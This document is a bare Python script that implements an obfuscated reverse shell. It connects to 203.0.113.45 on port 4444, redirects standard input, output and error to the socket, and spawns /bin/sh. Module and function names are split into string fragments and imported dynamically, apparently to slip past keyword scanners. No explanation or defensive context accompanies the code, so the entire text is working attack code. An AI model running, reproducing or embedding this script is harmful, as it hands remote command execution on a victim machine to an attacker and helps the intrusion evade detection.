import importlib

net = importlib.import_module('so' + 'cket')
o = __import__('o' + 's')
relay = ('203.0.113.45', 4444)

s = net.socket(net.AF_INET, net.SOCK_STREAM)
s.connect(relay)
for fd in (0, 1, 2):
    getattr(o, 'dup' + '2')(s.fileno(), fd)
getattr(importlib.import_module('p' + 'ty'), 'spa' + 'wn')('/bin/' + 'sh')
